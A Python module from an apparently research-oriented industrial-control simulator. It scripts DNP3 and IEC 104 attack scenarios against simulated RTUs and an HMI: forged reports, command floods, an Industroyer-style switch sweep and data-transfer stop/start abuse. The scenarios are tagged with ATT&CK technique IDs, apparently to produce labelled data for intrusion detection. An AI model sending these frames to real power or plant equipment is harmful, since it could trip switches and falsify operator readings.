"""DNP3 and IEC 60870-5-104: the classes of both UOWM data sets, QUT's, and what Industroyer and COSMICENERGY send."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

from interlock.plant.actors.power import FEEDER_ADDRESS, FEEDER_SWITCHES
from interlock.plant.actors.steps import Ask, Close, Link, Wait
from interlock.plant.blind.chance import anybody, attacker, count, one_of, pace, sent, some_of
from interlock.plant.blind.drawn import drawn
from interlock.plant.blind.forge import talk
from interlock.plant.protocols import dnp3, iec104

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from interlock.plant.actors.steps import Script
    from interlock.plant.attacks.scenario import Scenario, Scene
    from interlock.plant.draws import Draws

__all__ = ["FAMILIES"]

_WELL: Final = ("rtu-well", 20000)
_FEEDER: Final = ("rtu-feeder", 2404)
_ADMINISTRATION: Final[dict[str, tuple[int, bytes, tuple[str, ...]]]] = {
    "warm-restart": (14, b"", ("T0816", "T0814")),
    "initialise-data": (15, b"", ("T0809", "T0836", "T0816", "T0855")),
    "start-application": (17, b"\x5a\x01\x5b\x01\x01\0\x01", ("T0858", "T0855", "T0881")),
    "stop-application": (18, b"\x5a\x01\x5b\x01\x01\0\x01", ("T0858", "T0816", "T0881", "T0855")),
    "save-configuration": (19, b"", ("T0836", "T0855", "T0889")),
    "disable-unsolicited": (21, b"\x3c\x02\x06\x3c\x03\x06\x3c\x04\x06", ("T0804", "T0878", "T0815", "T0814")),
    "enable-unsolicited": (20, b"\x3c\x02\x06\x3c\x03\x06\x3c\x04\x06", ("T0836", "T0855", "T0802", "T0814")),
    "freeze-and-clear": (9, b"\x14\0\x06", ("T0836", "T0855", "T0872")),
    "write-clock": (2, b"\x32\x01\x07\x01\0\0\0\0\x10\x01", ("T0872", "T0836", "T0855")),
}  # fmt: skip


def _administration(draws: Draws) -> Scenario:
    what = one_of(draws, tuple(_ADMINISTRATION))
    function, objects, ids = _ADMINISTRATION[what]
    who, master = anybody(draws, "rtu-well"), one_of(draws, (1, count(draws, 2, 99)))
    times, pause = count(draws, 1, 12), pace(draws, 0.5, 10.0)

    def script(_scene: Scene) -> Script:
        messages = (dnp3.request(k, function, objects, master=master) for k in range(times))
        yield from sent(Link(who, *_WELL), messages, pause)

    return drawn(f"dnp3-{what}", ids, who, ["rtu-well"], script)


def _enumerate(draws: Draws) -> Scenario:
    who, pause = attacker(draws, "rtu-well"), pace(draws, 0.02, 0.6)
    addresses = draws.uniform() < 0.5
    groups = some_of(draws, [g for g in range(1, 122) if g != 12], 15)[:60]

    def script(_scene: Scene) -> Script:
        if addresses:
            messages = [dnp3.request(k, dnp3.READ, dnp3.CLASS_0, outstation=k) for k in range(1, 80)]
        else:
            messages = [dnp3.request(k, dnp3.READ, bytes((g, 0, 6)), master=2) for k, g in enumerate(groups)]
        yield from sent(Link(who, *_WELL), messages, pause)

    ids = ("T0846", "T0888", "T0861", "T0840", "T0802")
    return drawn("dnp3-enumerate", ids, who, ["rtu-well"], script)


def _information(draws: Draws) -> Scenario:
    who, first = attacker(draws, "rtu-well"), count(draws, 200, 240)

    def script(_scene: Scene) -> Script:
        asked = [bytes((0, variation, 0, 0, 0)) for variation in range(first, 256)]
        yield from sent(Link(who, *_WELL), (dnp3.request(k, dnp3.READ, o) for k, o in enumerate(asked)), 0.1)

    return drawn("dnp3-information", ("T0888", "T0846", "T0861", "T0802", "T0801"), who, ["rtu-well"], script)


def _dnp3_forged(draws: Draws) -> Scenario:
    """Reports in the remote station's name, to the panel, over a connection of their own."""
    who, level, times = attacker(draws, "rtu-well"), draws.uniform(-5.0, 50.0), count(draws, 5, 60)
    pause = pace(draws, 0.2, 3.0)

    def script(scene: Scene) -> Script:
        def said() -> Sequence[tuple[int, bytes, float]]:
            values = struct.pack("<BBBBB", 30, 5, 0, 0, 1) + struct.pack("<BfBf", 1, level, 1, 0.0)
            found = []
            for k in range(times):
                fragment = bytes((0xF0 | k & 15, 0x82, 0, 0)) + values
                frame = dnp3.link_frame(0x44, 1, 10, bytes((0xC0 | k & 0x3F,)) + fragment)
                found.append((0, frame, min(pause, 120 / times)))
            return found

        yield from talk(scene.draws, (who, "hmi", 20000), said())

    ids = ("T0856", "T0832", "T0830", "T0848", "T0849")
    return drawn("dnp3-forged-reports", ids, who, ["hmi", "rtu-well"], script)


def _started(link: Link) -> Script:
    yield Ask(link, iec104.u_frame(iec104.STARTDT))


def _commands(
    who: str, asked: Sequence[tuple[int, int, bytes]], pause: float, cause: int = iec104.ACTIVATION
) -> Script:
    """asked: type, information object address, element."""
    link, master = Link(who, *_FEEDER), iec104.Master(FEEDER_ADDRESS)
    yield from _started(link)
    for kind, address, element in asked:
        answers = yield Ask(link, master.command(kind, address, element, cause))
        master.heard(answers)
        yield Wait(pause)
    yield Close(link)


_SERVICES: Final[dict[str, tuple[int, bytes, tuple[str, ...]]]] = {
    "c-ci-na": (101, b"\x05", ("T0801", "T0802", "T0855", "T0888", "T0848")),
    "c-rd-na": (102, b"", ("T0801", "T0802", "T0855", "T0861", "T0848", "T0888")),
    "c-rp-na": (105, b"\x01", ("T0816", "T0814", "T0855")),
    "c-ts-na": (104, b"\xaa\x55", ("T0855", "T0888", "T0801", "T0848")),
    "p-me-nc": (112, struct.pack("<fB", 1e6, 0), ("T0836", "T0838", "T0855")),
    "c-se-nc": (50, struct.pack("<fB", 1e6, 0), ("T0855", "T0836", "T0831")),
    "f-sc-na": (122, bytes(4), ("T0802", "T0893", "T0882", "T0811", "T0845")),
}  # fmt: skip


def _service(draws: Draws) -> Scenario:
    what = one_of(draws, tuple(_SERVICES))
    kind, element, ids = _SERVICES[what]
    who, times, pause = anybody(draws, "rtu-feeder"), count(draws, 1, 30), pace(draws, 0.2, 4.0)
    cause = 5 if kind == 102 else iec104.ACTIVATION

    def script(_scene: Scene) -> Script:
        yield from _commands(who, [(kind, 700 if kind == 102 else 0, element)] * times, pause, cause)

    return drawn(f"iec104-{what}", ids, who, ["rtu-feeder"], script)


def _iec104_flood(draws: Draws) -> Scenario:
    kind, element = one_of(
        draws, ((45, b"\x80"), (100, b"\x14"), (101, b"\x05"), (103, bytes(7)), (45, b"\x01"))
    )
    who, times, pause = anybody(draws, "rtu-feeder"), count(draws, 200, 1200), pace(draws, 0.003, 0.1)

    def script(_scene: Scene) -> Script:
        address = FEEDER_SWITCHES[0].command if kind == 45 else 0
        yield from _commands(who, [(kind, address, element)] * times, pause)

    ids = ("T0814", "T0806", "T0855", "T0801", "T0848", "T0872")
    return drawn("iec104-flood", ids, who, ["rtu-feeder"], script)


def _iec104_sweep(draws: Draws) -> Scenario:
    """Every address of a range is selected and executed, as Industroyer does."""
    who, first = anybody(draws, "rtu-feeder"), count(draws, 1, 5000)
    many, pause, state = count(draws, 10, 90), pace(draws, 0.05, 1.0), draws.number(1)

    def script(_scene: Scene) -> Script:
        steps = [(45, first + k, bytes((select | state,))) for k in range(many) for select in (0x80, 0)]
        yield from _commands(who, steps, pause)

    ids = ("T0855", "T0806", "T0831", "T0861", "T0848")
    return drawn("iec104-range", ids, who, ["rtu-feeder"], script)


def _iec104_told(draws: Draws) -> Scenario:
    """Points and values in the feeder's name, over a connection of their own to the panel (UOWM: M_SP flood)."""
    who, times, pause = attacker(draws, "rtu-feeder"), count(draws, 100, 900), pace(draws, 0.005, 0.1)

    def script(scene: Scene) -> Script:
        def said() -> Sequence[tuple[int, bytes, float]]:
            found = []
            for k in range(times):
                asdu = struct.pack("<BBBBH", 1, 1, 3, 0, FEEDER_ADDRESS) + (100 + k % 40).to_bytes(
                    3, "little"
                )
                body = struct.pack("<HH", k << 1, 0) + asdu + bytes((k & 1,))
                found.append((0, b"\x68" + bytes((len(body),)) + body, pause))
            return found

        yield from talk(scene.draws, (who, "hmi", 2404), said())

    ids = ("T0814", "T0856", "T0832", "T0848", "T0830", "T0815")
    return drawn("iec104-forged-reports", ids, who, ["hmi", "rtu-feeder"], script)


def _stopdt(draws: Draws) -> Scenario:
    """Data transfer is stopped and started, or only tested, again and again."""
    who, times, pause = attacker(draws, "rtu-feeder"), count(draws, 3, 200), pace(draws, 0.02, 2.0)
    kinds = one_of(draws, ((0x07, 0x13), (0x13,), (0x43,), (0x07,)))

    def script(_scene: Scene) -> Script:
        octets = [iec104.u_frame(kinds[k % len(kinds)]) for k in range(times)]
        yield from sent(Link(who, *_FEEDER), octets, min(pause, 120 / times))

    ids = ("T0814", "T0803", "T0804", "T0815", "T0848", "T0846", "T0813", "T0881")
    return drawn("iec104-transfer-stopped", ids, who, ["rtu-feeder"], script)


FAMILIES: Final[dict[str, Callable[[Draws], Scenario]]] = {
    "dnp3-administration": _administration, "dnp3-enumerate": _enumerate, "dnp3-information": _information,
    "dnp3-forged-reports": _dnp3_forged, "iec104-service": _service, "iec104-flood": _iec104_flood,
    "iec104-range": _iec104_sweep, "iec104-forged-reports": _iec104_told, "iec104-transfer-stopped": _stopdt,
}  # fmt: skip
